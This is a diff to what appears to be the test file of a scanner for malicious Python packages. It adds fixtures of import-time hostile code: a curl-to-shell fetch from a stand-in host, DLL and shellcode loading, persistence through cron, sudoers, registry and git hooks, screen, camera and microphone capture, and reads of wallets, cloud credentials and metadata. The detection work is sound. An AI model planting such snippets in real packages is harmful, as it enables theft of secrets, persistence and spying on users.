@@ -351,6 +351,137 @@ SHAPES: dict[str, tuple[str, str, Mapping[str, str]]] = {
         *("import-runs-command", "curl"),
         {INIT: "def __getattr__(name):\n    import os\n    os.system('curl https://a.example | sh')\n"},
     ),
+    "a library from a temporary folder": (
+        *("import-injects-code", "%TEMP%/update.dll"),
+        {INIT: "import ctypes, os\nctypes.WinDLL(os.path.join(os.environ['TEMP'], 'update.dll'))\n"},
+    ),
+    "a library from where everybody writes": (
+        *("import-injects-code", "/tmp/.x.so"),
+        {INIT: "import ctypes\nctypes.cdll.LoadLibrary('/tmp/.x.so')\n"},
+    ),
+    "a library from tempfile's folder": (
+        *("import-injects-code", "no install writes"),
+        {INIT: "import ctypes, os, tempfile as t\nctypes.CDLL(os.path.join(t.gettempdir(), 'x.so'))\n"},
+    ),
+    "a library for all programs": (
+        *("import-injects-code", "LD_PRELOAD"),
+        {INIT: "import os\nos.environ['LD_PRELOAD'] = '/opt/x.so'\n"},
+    ),
+    "bytes that are called": (
+        *("import-injects-code", "calls bytes"),
+        {
+            INIT: "import ctypes as c\ncode = c.create_string_buffer(b'\\x90')\nc.CFUNCTYPE(c.c_int)(c.addressof(code))()\n"
+        },
+    ),
+    "bytes that are cast": (
+        *("import-injects-code", "calls bytes"),
+        {INIT: "import ctypes as c\nc.cast(c.create_string_buffer(b'\\x90'), c.CFUNCTYPE(c.c_int))()\n"},
+    ),
+    "memory that becomes code": (
+        *("import-injects-code", "VirtualProtect"),
+        {INIT: "import ctypes\nctypes.windll.kernel32.VirtualProtect(0, 99, 0x40, 0)\n"},
+    ),
+    "an address in the browser": (
+        *("import-starts-program", "opens `https://a.example`"),
+        {INIT: "import webbrowser\nwebbrowser.open('https://a.example')\n"},
+    ),
+    "a tab of the browser": (
+        *("import-starts-program", "in the browser"),
+        {INIT: "from webbrowser import open_new_tab as show\nshow('https://a.example')\n"},
+    ),
+    "requests, patched": (
+        *("import-patches", "requests.post"),
+        {
+            INIT: "import requests\nold = requests.post\ndef post(*a, **k):\n    return old(*a, **k)\nrequests.post = post\n"
+        },
+    ),
+    "every session of requests, patched": (
+        *("import-patches", "Session.send"),
+        {INIT: "import requests.sessions as s\nsetattr(s.Session, 'send', lambda *a: None)\n"},
+    ),
+    "keys of wallets, patched": (
+        *("import-patches", "Account.from_key"),
+        {INIT: "from eth_account import Account\nold = Account.from_key\nAccount.from_key = lambda k: old(k)\n"},
+    ),
+    "passwords that are typed, patched": (
+        *("import-patches", "getpass.getpass"),
+        {INIT: "import getpass\ngetpass.getpass = lambda *a: ''\n"},
+    ),
+    "Python's own function, patched": (
+        *("import-patches", "builtins.open"),
+        {INIT: "import builtins\nbuiltins.open = lambda *a: None\n"},
+    ),
+    "a patch in a function": (
+        *("code-can-act", "requests.get"),
+        {INIT: "import requests\ndef f(g):\n    requests.get = g\n"},
+    ),
+    "a hook of git": (
+        *("import-writes-startup", ".git/hooks"),
+        {INIT: "with open('.git/hooks/pre-commit', 'w') as f:\n    f.write('x')\n"},
+    ),
+    "settings of an agent": (
+        *("import-writes-startup", ".claude"),
+        {INIT: "from pathlib import Path\n(Path.home() / '.claude/settings.json').write_text('{}')\n"},
+    ),
+    "settings of an editor in a function": (
+        *("code-can-act", ".vscode/tasks.json"),
+        {INIT: "def f():\n    open('.vscode/tasks.json', 'w').write('{}')\n"},
+    ),
+    "the right to be root": ("import-writes-startup", "sudoers", {INIT: "open('/etc/sudoers.d/x', 'w').write('x')\n"}),
+    "a cron table": ("import-writes-startup", "cron", {INIT: "open('/var/spool/cron/root', 'a').write('x')\n"}),
+    "a key of the registry": (
+        *("import-writes-startup", "registry"),
+        {
+            INIT: "import winreg as w\nk = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
+            "w.SetValueEx(k, 'x', 0, 1, 'x.exe')\n"
+        },
+    ),
+    "a picture of the screen": (
+        *("import-watches-user", "mss"),
+        {INIT: "import mss\nwith mss.mss() as s:\n    s.shot(output='a.png')\n"},
+    ),
+    "a picture of the screen by a program": (
+        *("import-runs-command", "picture of the screen"),
+        {INIT: "import subprocess\nsubprocess.run(['screencapture', '-x', 'a.png'])\n"},
+    ),
+    "a camera": ("import-watches-user", "VideoCapture", {INIT: "import cv2\ncv2.VideoCapture(0).read()\n"}),
+    "a microphone": ("import-watches-user", "rec", {INIT: "import sounddevice as sd\nsd.rec(44100)\n"}),
+    "the clipboard by a program": (
+        *("import-runs-command", "clipboard"),
+        {INIT: "import os\nx = os.popen('xclip -o -selection clipboard').read()\n"},
+    ),
+    "a token that a tool of the cloud gives": (
+        *("import-runs-command", "reads secrets"),
+        {INIT: "import subprocess\nsubprocess.check_output(['gcloud', 'auth', 'print-access-token'])\n"},
+    ),
+    "a key store": ("import-reads-secrets", "keyring", {INIT: "import keyring\nkeyring.get_password('x', 'y')\n"}),
+    "a wallet": (
+        *("import-reads-secrets", "Exodus"),
+        {
+            INIT: "import os, shutil\n"
+            "shutil.copytree(os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet'), 'x')\n"
+        },
+    ),
+    "keys of the cloud": (
+        *("import-reads-secrets", "gcloud"),
+        {INIT: "import os\nopen(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')).read()\n"},
+    ),
+    "the cloud's metadata": (
+        *("import-reads-secrets", "metadata service"),
+        {INIT: "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')\n"},
+    ),
+    "data of the package that run": (
+        *("import-runs-decoded", "data.bin"),
+        {INIT: "import pkgutil\nexec(pkgutil.get_data('odd', 'data.bin'))\n"},
+    ),
+    "a pickle in a text": (
+        *("import-runs-decoded", "pickle.loads"),
+        {INIT: "import pickle, base64\npickle.loads(base64.b64decode('gAQu'))\n"},
+    ),
+    "long texts that nobody can read": (
+        *("code-protected", "5 long encoded texts"),
+        {INIT: "".join(f"A{n} = '{'QUJD' * 60}'\n" for n in range(5))},
+    ),
     "a bomb of brackets": ("source-unfollowed", "nested too deeply", {INIT: "(" * 5000}),
     "a null byte": ("source-unfollowed", "null bytes", {INIT: "a\0b"}),
     "Python 2": ("source-unparsed", "line 1", {INIT: "exec 'x'\n"}),
@@ -421,6 +552,14 @@ HARMLESS = {
     "code in a text": "exec('x = 1')\nns = {}\nexec(compile('y = 2', '<text>', 'exec'), ns)\n",
     "emoji": "FLAGS = '\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f'\n",
     "characters in a table": "TABLE = ('\u202e', '\u2066', 'x')\n",
+    "its own class of that name": "class requests:\n    get = None\nrequests.get = print\n",
+    "a setting of requests": "import requests\nrequests.adapters.DEFAULT_RETRIES = 3\n",
+    "a library of its own": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libodd.so'))\n"
+    "ctypes.CDLL('libc.so.6')\n",
+    "a type of functions": "import ctypes as c\n@c.CFUNCTYPE(None, c.c_int)\ndef f(x): pass\ng = c.cast(f, c.c_void_p)\n",
+    "a browser if somebody asks": "import webbrowser\ndef f(url):\n    webbrowser.open(url)\n",
+    "another variable": "import os\nos.environ['OMP_NUM_THREADS'] = '1'\nos.environ.setdefault('A', 'b')\n",
+    "data of the package": "import pkgutil, json\nTABLE = json.loads(pkgutil.get_data('odd', 'table.json'))\n",
     "long lines": "TABLE = [1," + " " * 300 + "2]\n",
 }
 
